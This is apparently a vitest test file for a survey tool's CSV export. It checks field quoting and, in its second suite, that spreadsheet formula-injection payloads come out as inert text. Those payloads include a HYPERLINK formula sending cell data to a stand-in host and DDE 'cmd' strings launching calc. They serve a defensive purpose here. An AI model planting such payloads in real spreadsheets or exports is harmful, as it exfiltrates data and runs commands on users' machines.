import type { Question, StoredResponse } from "@parley/schema";
import { describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { csvField, responsesToCsv } from "./csv.ts";

describe("CSV export", () => {
  it("quotes commas, quotes and line breaks, and keeps non-ASCII text", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a, b")).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("line1\nline2")).toBe('"line1\nline2"');
    expect(csvField("crème brûlée 😀")).toBe("crème brûlée 😀");
  });

  it("writes one row per response: created time, one column per question, follow-ups in their own columns", () => {
    const questions: Question[] = [
      { id: 1, question: "Pick one, please", type: "radio", options: [{ key: 0, value: "A" }] },
      { id: 2, question: "Why?", type: "open-ended", requiresPrompt: true },
    ];
    const rows: StoredResponse[] = [
      {
        id: "r1",
        createdAt: "2026-01-02T03:04:05.000Z",
        responses: [
          { id: "1", question: "Pick one, please", type: "radio", answer: "A", isFollowUp: false },
          { id: "2", question: "Why?", type: "open-ended", answer: 'It "just" works,\nmostly', isFollowUp: false },
          { id: "2.1", question: "What works best?", type: "open-ended", answer: "Größe", isFollowUp: true },
        ],
      },
      { id: "r2", createdAt: "2026-01-03T00:00:00.000Z", responses: [] },
    ];
    const csv = responsesToCsv(questions, rows);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const lines = csv.slice(1).split("\r\n");
    expect(lines[0]).toBe(
      'Created at,"Pick one, please",Why?,Why? (follow-up 1 question),Why? (follow-up 1 answer),Why? (follow-up 2 question),Why? (follow-up 2 answer)',
    );
    expect(lines[1]).toBe('2026-01-02T03:04:05.000Z,A,"It ""just"" works,\nmostly",What works best?,Größe,,');
    expect(lines[2]).toBe("2026-01-03T00:00:00.000Z,,,,,,");
    expect(lines[3]).toBe("");
  });
});

describe("CSV export read as a spreadsheet would", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
  ];
  const questions: Question[] = hostile.map((text, i) => ({
    id: i + 1,
    question: text,
    type: "radio",
    options: [{ key: 0, value: text }],
  }));
  const rows: StoredResponse[] = [
    {
      id: "r1",
      createdAt: "2026-01-02T03:04:05.000Z",
      responses: hostile.map((text, i) => ({
        id: String(i + 1),
        question: text,
        type: "radio",
        answer: text,
        isFollowUp: false,
      })),
    },
    {
      id: "r2",
      createdAt: "2026-01-03T00:00:00.000Z",
      responses: [{ id: "7", question: "Rate it", type: "slider", answer: "-3", isFollowUp: false }],
    },
  ];

  it("holds no formula: every question and answer starting with = + - @, tab or CR is text with a leading '", () => {
    const book = XLSX.read(responsesToCsv(questions, rows), { type: "string" });
    const sheet = book.Sheets[book.SheetNames[0] ?? ""];
    if (!sheet) throw new Error("no sheet");
    const cells = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false, defval: "" });
    for (const [address, cell] of Object.entries(sheet)) {
      if (!address.startsWith("!")) expect((cell as { f?: string }).f, address).toBeUndefined();
    }
    const expected = hostile.map((text) => `'${text}`);
    expect(cells[0]?.slice(1, 7)).toEqual(expected);
    expect(cells[1]?.slice(1, 7)).toEqual(expected);
    // The slider answer of a removed question stays a number.
    expect(sheet.H3).toMatchObject({ t: "n", v: -3 });
  });
});
